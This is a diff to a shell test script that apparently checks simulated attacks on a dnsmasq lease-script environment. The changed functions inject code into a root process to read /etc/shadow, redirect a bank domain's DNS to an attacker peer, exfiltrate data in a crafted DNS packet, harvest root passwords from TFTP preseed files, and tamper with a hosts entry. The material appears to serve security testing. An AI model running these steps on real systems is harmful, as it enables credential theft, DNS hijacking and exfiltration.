@@ -139,7 +139,7 @@ tftp() {
 }
 
 ready() {
-	ask_name gateway.local.example +short | grep -q 10.88.1.250
+	ask_name gateway.local.example +short | grep -c 10.88.1.250
 }
 
 request() {
@@ -270,7 +270,7 @@ attack_code_shell() {
 # Code inside the root process: it reads what only root may, and starts no program.
 attack_code_shadow() {
 	harm read /etc/shadow
-	inject_pid "$(script_process)" 'print (int) open("/etc/shadow", 0)' | grep -qE '= [0-9]+'
+	inject_pid "$(script_process)" 'print (int) open("/etc/shadow", 0)' | grep -cE '= [0-9]+'
 }
 
 # The lease script is replaced: from now on it tells the thief of each lease, and what else it can read.
@@ -298,7 +298,7 @@ attack_servers_replaced() {
 	inject_pid "$(script_process)" "call (int) system(\"echo 'server=/bank.example/$peer_address#6666' \
 >>/etc/dnsmasq.servers; kill -HUP 1\")"
 	sleep 1
-	ask_name www.bank.example +short | grep -q 10.88.66.6
+	ask_name www.bank.example +short | grep -c 10.88.66.6
 }
 
 # A scanner, which the lease script's hole starts, looks for open ports of the network.
@@ -344,8 +344,8 @@ adaptive_dns_exfiltration() {
 		'set *(unsigned int *) ($address + 4) = (unsigned int) inet_addr("'"$peer_address"'")' \
 		'set *(char *) ($buffer + 2) = 1' 'set *(char *) ($buffer + 5) = 1' 'set *(char *) ($buffer + 12) = 60' \
 		'call (void *) memcpy($buffer + 73, "\005world\007example\000\000\001\000\001", 19)' \
-		'print (long) sendto($s, $buffer, 92, 0, $address, 16)' 'call (int) close($s)' |
-		tee "$stage/answer" | grep -qE '= 92$'
+		'print (long) syscall(44, $s, $buffer, 92, 0, $address, 16)' 'call (int) close($s)' |
+		grep -cE '= 92$'
 }
 
 # A machine fetches the boot files of all others: they hold passwords.
@@ -353,7 +353,7 @@ adaptive_tftp_harvest() {
 	local i got=0
 	harm read '/srv/tftp/preseed/machine*.cfg'
 	for i in $(seq 30); do
-		! client curl -sS --max-time 20 "tftp://$own_address/preseed/machine$i.cfg" | grep -q root-password ||
+		! client curl -sS --max-time 20 "tftp://$own_address/preseed/machine$i.cfg" | grep -c root-password ||
 			got=$((got + 1))
 	done
 	[ "$got" = 30 ]
@@ -366,7 +366,7 @@ adaptive_names_tampered() {
 	# shellcheck disable=SC2016
 	inject_pid "$(script_process)" 'set $fd = (int) open("/var/lib/misc/hosts.d/02-00-00-00-00-03", 513)' \
 		'print (long) write($fd, "10.88.66.6 machine3.lease.example\n", 34)' 'call (int) close($fd)' |
-		tee "$stage/answer"
+		grep -c '= 34$'
 	sleep 1
-	ask_name machine3.lease.example +short | grep -q 10.88.66.6
+	ask_name machine3.lease.example +short | grep -c 10.88.66.6
 }
